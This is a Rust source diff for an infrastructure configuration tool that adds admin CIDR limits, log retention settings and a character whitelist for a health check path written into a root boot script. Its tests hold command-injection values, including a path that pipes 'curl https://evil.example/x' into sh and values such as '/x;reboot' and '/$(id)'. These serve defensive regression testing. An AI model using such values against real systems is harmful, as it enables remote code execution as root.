@@ -18,6 +18,7 @@ use ipnet::Ipv4Net;
 use serde::{Deserialize, Serialize};
 
 pub use crate::parameters::BastionAccess;
+use crate::parameters::WIDEST_ADMIN_PREFIX;
 
 /// SwiftCode's keys in `[environments.NAME.blueprint]`.
 #[derive(Debug, Clone, PartialEq, Eq, Deserialize, Serialize)]
@@ -38,8 +39,23 @@ pub struct SwiftCodeConfig {
     /// at deploy time.
     pub domain: Option<String>,
     /// How people reach the bastion: SSH with a key pair, or Session
-    /// Manager only (no `KeyName` parameter).
+    /// Manager only (no `KeyName` or `AdminCidr` parameter, no public
+    /// address).
     pub bastion_access: BastionAccess,
+    /// The widest admin range the `AdminCidr` parameter accepts, as a
+    /// prefix length: 16 accepts /16 to /32. From 8 to 32; below 16 is
+    /// reported as an overridden safe default.
+    pub admin_cidr_min_prefix: u8,
+    /// The default of the `AdminCidr` parameter, which can still be given
+    /// at deploy time; none (the default) makes the range a required
+    /// deploy-time value. Refused when wider than `admin_cidr_min_prefix`,
+    /// or with Session Manager access, which has no `AdminCidr`.
+    #[serde(
+        default,
+        deserialize_with = "optional_cidr_block",
+        skip_serializing_if = "Option::is_none"
+    )]
+    pub admin_cidr: Option<Ipv4Net>,
     /// Step scaling on CPU alarms, or target tracking on requests.
     pub scaling: ScalingMode,
     /// The target of `scaling = "requests"`: requests per instance per minute.
@@ -53,6 +69,30 @@ pub struct SwiftCodeConfig {
     pub asg: AsgSize,
     /// The database.
     pub database: DatabaseConfig,
+    /// VPC flow logs and load balancer access logs.
+    pub logs: LogsConfig,
+}
+
+/// Where network and request records go: one private, encrypted S3 bucket
+/// for VPC flow logs and the load balancer's access logs. On in `prod`, off
+/// in `stage` (a short-lived environment that keeps no records, and whose
+/// teardown should leave no retained bucket behind).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, Serialize)]
+#[serde(deny_unknown_fields)]
+pub struct LogsConfig {
+    /// Every flow of the VPC (accepted and rejected) to the log bucket.
+    pub flow_logs: bool,
+    /// The load balancer's access logs to the log bucket.
+    pub access_logs: bool,
+    /// Days the log bucket keeps a log file (S3 lifecycle expiration).
+    pub retention_days: u32,
+}
+
+impl LogsConfig {
+    /// Whether anything is logged, and so whether there is a log bucket.
+    pub fn any(self) -> bool {
+        self.flow_logs || self.access_logs
+    }
 }
 
 /// How private subnets reach the internet.
@@ -109,6 +149,9 @@ pub struct DatabaseConfig {
     pub allocated_storage: u32,
     /// Days automated backups are kept.
     pub backup_retention_days: u32,
+    /// Days CloudWatch Logs keeps the database's exported logs: one of the
+    /// retention periods CloudWatch Logs offers (1, 3, 5, 7, 14, 30, ...).
+    pub log_retention_days: u32,
 }
 
 /// The database engine, as written in `hagen.toml`.
@@ -146,6 +189,27 @@ impl BlueprintConfig for SwiftCodeConfig {
             BaseEnvironment::Stage => ("t3.medium", (2, 2, 6), "db.t4g.medium", 20, 7),
             BaseEnvironment::Prod => ("m6i.large", (4, 4, 12), "db.m6g.large", 100, 30),
         };
+        // Records: prod keeps a year of flow, access and database logs (an
+        // incident is often found months after it began); stage keeps no
+        // flow or access logs and two weeks of database logs.
+        let (logs, db_log_days) = match env.base {
+            BaseEnvironment::Stage => (
+                LogsConfig {
+                    flow_logs: false,
+                    access_logs: false,
+                    retention_days: 30,
+                },
+                14,
+            ),
+            BaseEnvironment::Prod => (
+                LogsConfig {
+                    flow_logs: true,
+                    access_logs: true,
+                    retention_days: 365,
+                },
+                365,
+            ),
+        };
         let min = u32::max(min, u32::from(env.az_count));
         SwiftCodeConfig {
             vpc_cidr: Ipv4Net::new(std::net::Ipv4Addr::new(10, 0, 0, 0), 16)
@@ -155,6 +219,8 @@ impl BlueprintConfig for SwiftCodeConfig {
             bastion_instance_type: "t3.micro".to_owned(),
             domain: None,
             bastion_access: BastionAccess::KeyPair,
+            admin_cidr_min_prefix: SAFE_ADMIN_PREFIX,
+            admin_cidr: None,
             scaling: ScalingMode::Cpu,
             requests_per_target: 1000,
             health_check_path: "/".to_owned(),
@@ -169,7 +235,9 @@ impl BlueprintConfig for SwiftCodeConfig {
                 instance_class: db_class.to_owned(),
                 allocated_storage: storage,
                 backup_retention_days: backups,
+                log_retention_days: db_log_days,
             },
+            logs,
         }
     }
 
@@ -230,12 +298,55 @@ impl BlueprintConfig for SwiftCodeConfig {
                 None,
             );
         }
-        let path = &self.health_check_path;
-        if !path.starts_with('/') || path.len() > 1024 {
+        if let Err(why) = check_health_check_path(&self.health_check_path) {
             issue(
                 "health_check_path",
-                format!("\"{path}\" is not a path the load balancer can request"),
-                Some("start it with / and keep it to 1024 characters, such as \"/health\"".into()),
+                why,
+                Some("write a plain path of letters, digits and / - . _ ~ starting with /, such as \"/health\"".into()),
+            );
+        }
+        let min = self.admin_cidr_min_prefix;
+        if !(WIDEST_ADMIN_PREFIX..=32).contains(&min) {
+            issue(
+                "admin_cidr_min_prefix",
+                format!(
+                    "{min} is not allowed: must be from {WIDEST_ADMIN_PREFIX} (a /{WIDEST_ADMIN_PREFIX}, 16 million addresses) to 32 (one address)"
+                ),
+                Some(format!(
+                    "the safe default is {SAFE_ADMIN_PREFIX}: admin ranges of /{SAFE_ADMIN_PREFIX} or narrower"
+                )),
+            );
+        }
+        if let Some(admin) = self.admin_cidr {
+            if self.bastion_access == BastionAccess::SessionManager {
+                issue(
+                    "admin_cidr",
+                    format!(
+                        "{admin} is an SSH range, but bastion_access = \"session-manager\" opens no SSH and has no AdminCidr parameter"
+                    ),
+                    Some("remove admin_cidr, or set bastion_access = \"key-pair\"".into()),
+                );
+            } else if admin.prefix_len() < min {
+                issue(
+                    "admin_cidr",
+                    format!(
+                        "{admin} is wider than a /{min}: AdminCidr accepts /{min} to /32 (admin_cidr_min_prefix)"
+                    ),
+                    Some(format!(
+                        "narrow it to the admin network, such as \"{}/32\" for one address",
+                        admin.addr()
+                    )),
+                );
+            }
+        }
+        if !(1..=MAX_LOG_RETENTION_DAYS).contains(&self.logs.retention_days) {
+            issue(
+                "logs.retention_days",
+                format!(
+                    "{} is not allowed: must be from 1 to {MAX_LOG_RETENTION_DAYS} days",
+                    self.logs.retention_days
+                ),
+                None,
             );
         }
         let asg = self.asg;
@@ -292,9 +403,44 @@ impl BlueprintConfig for SwiftCodeConfig {
                 ),
             ));
         }
+        if !CLOUDWATCH_RETENTION_DAYS.contains(&db.log_retention_days) {
+            let nearest = CLOUDWATCH_RETENTION_DAYS
+                .iter()
+                .copied()
+                .find(|d| *d >= db.log_retention_days)
+                .unwrap_or(MAX_LOG_RETENTION_DAYS);
+            issues.push(
+                ConfigIssue::new(
+                    "blueprint.database.log_retention_days",
+                    format!(
+                        "{} is not a retention period CloudWatch Logs offers",
+                        db.log_retention_days
+                    ),
+                )
+                .help(format!(
+                    "use one of {}; the nearest longer one is {nearest}",
+                    CLOUDWATCH_RETENTION_DAYS.map(|d| d.to_string()).join(", ")
+                )),
+            );
+        }
         issues
     }
 }
+
+/// The retention periods CloudWatch Logs accepts for a log group, in days
+/// (`RetentionInDays` of `AWS::Logs::LogGroup`, CloudWatch Logs API
+/// reference, PutRetentionPolicy).
+pub const CLOUDWATCH_RETENTION_DAYS: [u32; 22] = [
+    1, 3, 5, 7, 14, 30, 60, 90, 120, 150, 180, 365, 400, 545, 731, 1096, 1827, 2192, 2557, 2922,
+    3288, 3653,
+];
+
+/// The longest log retention the configuration accepts: ten years, as
+/// CloudWatch Logs' longest period.
+const MAX_LOG_RETENTION_DAYS: u32 = 3653;
+
+/// The widest admin range hagen advises: a /16.
+pub const SAFE_ADMIN_PREFIX: u8 = 16;
 
 impl SwiftCodeConfig {
     /// The group's capacity as the load-balanced group construct needs it:
@@ -339,6 +485,53 @@ fn cidr_block<'de, D: serde::Deserializer<'de>>(deserializer: D) -> Result<Ipv4N
             &"an IPv4 CIDR block such as \"10.0.0.0/16\"",
         )
     })
+}
+
+/// Reads an optional IPv4 CIDR block (a key that is present holds one).
+fn optional_cidr_block<'de, D: serde::Deserializer<'de>>(
+    deserializer: D,
+) -> Result<Option<Ipv4Net>, D::Error> {
+    cidr_block(deserializer).map(Some)
+}
+
+/// Longest health check path the load balancer accepts.
+const MAX_HEALTH_CHECK_PATH: usize = 1024;
+
+/// Whether `c` may appear in `health_check_path`: ASCII letters, digits and
+/// `/ - . _ ~` (RFC 3986's unreserved characters and the path separator).
+/// The path is written into the root boot script (the `cfn_signal` health
+/// probe), so nothing the shell, systemd or `Fn::Sub` reads as syntax is
+/// allowed in it: no quotes, `$`, `;`, `|`, `&`, spaces, line breaks, `%`.
+fn is_health_check_path_char(c: char) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, '/' | '-' | '.' | '_' | '~')
+}
+
+/// Checks `health_check_path`: starts with `/`, at most 1024 characters,
+/// and only [`is_health_check_path_char`] characters; or says what is wrong.
+fn check_health_check_path(path: &str) -> Result<(), String> {
+    if !path.starts_with('/') {
+        return Err(format!(
+            "{path:?} is not a path the load balancer can request: it must start with /"
+        ));
+    }
+    if path.len() > MAX_HEALTH_CHECK_PATH {
+        return Err(format!(
+            "the path is {} characters long; the load balancer takes at most {MAX_HEALTH_CHECK_PATH}",
+            path.len()
+        ));
+    }
+    if let Some((at, c)) = path
+        .chars()
+        .enumerate()
+        .find(|(_, c)| !is_health_check_path_char(*c))
+    {
+        return Err(format!(
+            "{path:?} is not allowed: {c:?} (character {}) is not a letter, digit or one of / - . _ ~, \
+             and the path is written into the instances' boot script, which runs as root",
+            at + 1
+        ));
+    }
+    Ok(())
 }
 
 /// `family.size` (`t3.medium`, `m7gd.2xlarge`), after `prefix` (`db.`).
@@ -528,6 +721,156 @@ mod tests {
             err.problems()[0].message,
             "must be an IPv4 CIDR block such as \"10.0.0.0/16\", found the string \"10.0.0.0/33\""
         );
+    }
+
+    /// Regression: `health_check_path = '/"; curl ... | sh; "'` went into
+    /// the root boot script unescaped and synthesized with exit 0. Such a
+    /// value is now a configuration error at its key and line, naming the
+    /// character at fault; so is a domain (the `DomainName` default, which
+    /// the script reads) with shell syntax in it.
+    #[test]
+    fn a_health_check_path_with_shell_syntax_is_refused_at_its_key_and_line() {
+        let err = resolve(
+            "[environments.stage.blueprint]\ncfn_signal = true\n\
+             health_check_path = '/\"; curl -fsS https://evil.example/x | sh; \"'\n\
+             domain = \"app.example.com;reboot\"\n",
+            "stage",
+        )
+        .expect_err("hostile values");
+        let p = err.problems();
+        assert_eq!(p.len(), 2, "{p:#?}");
+        let at_key = |key: &str| {
+            p.iter()
+                .find(|p| p.key.as_deref() == Some(key))
+                .unwrap_or_else(|| panic!("no problem at {key}: {p:#?}"))
+        };
+        let path = at_key("environments.stage.blueprint.health_check_path");
+        let at = path
+            .location
+            .as_ref()
+            .expect("reported where it is written");
+        assert_eq!((at.line, at.column), (3, 21));
+        assert!(
+            path.message.contains("'\"' (character 2)"),
+            "{}",
+            path.message
+        );
+        assert!(path.message.contains("boot script"), "{}", path.message);
+        let domain = at_key("environments.stage.blueprint.domain");
+        assert_eq!(domain.location.as_ref().map(|l| l.line), Some(4));
+    }
+
+    #[test]
+    fn admin_range_and_log_retentions_are_checked_with_their_keys() {
+        let err = resolve(
+            "[environments.prod.blueprint]\nadmin_cidr_min_prefix = 4\n\
+             [environments.prod.blueprint.database]\nlog_retention_days = 100\n\
+             [environments.prod.blueprint.logs]\nretention_days = 0\n",
+            "prod",
+        )
+        .expect_err("three problems");
+        let mut keys: Vec<_> = err
+            .problems()
+            .iter()
+            .filter_map(|p| p.key.clone())
+            .collect();
+        keys.sort();
+        assert_eq!(
+            keys,
+            [
+                "environments.prod.blueprint.admin_cidr_min_prefix",
+                "environments.prod.blueprint.database.log_retention_days",
+                "environments.prod.blueprint.logs.retention_days",
+            ]
+        );
+        let db = err
+            .problems()
+            .iter()
+            .find(|p| p.message.contains("CloudWatch Logs"))
+            .expect("the database's retention");
+        assert!(
+            db.help
+                .as_deref()
+                .is_some_and(|h| h.contains("the nearest longer one is 120")),
+            "{db:?}"
+        );
+    }
+
+    /// Regression: `AdminCidr` took ranges as wide as a /8. A configured
+    /// default wider than `admin_cidr_min_prefix` is refused at synth, at
+    /// its key and line, as CloudFormation would refuse it at deploy time.
+    #[test]
+    fn a_configured_admin_cidr_wider_than_the_limit_is_refused() {
+        let err = resolve(
+            "[environments.stage.blueprint]\nadmin_cidr = \"10.0.0.0/8\"\n",
+            "stage",
+        )
+        .expect_err("a /8");
+        let p = &err.problems()[0];
+        assert_eq!(
+            p.key.as_deref(),
+            Some("environments.stage.blueprint.admin_cidr")
+        );
+        assert_eq!(p.location.as_ref().map(|l| l.line), Some(2));
+        assert!(p.message.contains("wider than a /16"), "{}", p.message);
+
+        let err = resolve(
+            "[environments.stage.blueprint]\nbastion_access = \"session-manager\"\nadmin_cidr = \"203.0.113.10/32\"\n",
+            "stage",
+        )
+        .expect_err("no SSH to open");
+        assert!(err.problems()[0].message.contains("opens no SSH"));
+
+        let ok = resolve(
+            "[environments.prod.blueprint]\nadmin_cidr_min_prefix = 24\nadmin_cidr = \"203.0.113.0/24\"\n",
+            "prod",
+        )
+        .expect("a /24 within a /24 limit");
+        assert_eq!(
+            ok.admin_cidr.map(|c| c.to_string()).as_deref(),
+            Some("203.0.113.0/24")
+        );
+    }
+
+    #[test]
+    fn prod_keeps_a_year_of_logs_and_stage_two_weeks_of_database_logs_only() {
+        let stage = SwiftCodeConfig::defaults(&env(BaseEnvironment::Stage));
+        let prod = SwiftCodeConfig::defaults(&env(BaseEnvironment::Prod));
+        assert!(!stage.logs.any());
+        assert!(prod.logs.flow_logs && prod.logs.access_logs);
+        assert_eq!(prod.logs.retention_days, 365);
+        assert_eq!(
+            (
+                stage.database.log_retention_days,
+                prod.database.log_retention_days
+            ),
+            (14, 365)
+        );
+        assert_eq!(stage.admin_cidr_min_prefix, 16);
+        assert_eq!(prod.admin_cidr_min_prefix, 16);
+    }
+
+    #[test]
+    fn health_check_paths_are_plain_paths() {
+        for good in ["/", "/health", "/leto/status-2.json", "/~user/_ok"] {
+            assert_eq!(check_health_check_path(good), Ok(()), "{good}");
+        }
+        for bad in [
+            "health",
+            "/a b",
+            "/$(id)",
+            "/`id`",
+            "/x;reboot",
+            "/x|sh",
+            "/a&b",
+            "/50%",
+            "/${AWS::Region}",
+            "/x\nid",
+            "/é",
+        ] {
+            assert!(check_health_check_path(bad).is_err(), "{bad:?}");
+        }
+        assert!(check_health_check_path(&format!("/{}", "a".repeat(1024))).is_err());
     }
 
     #[test]
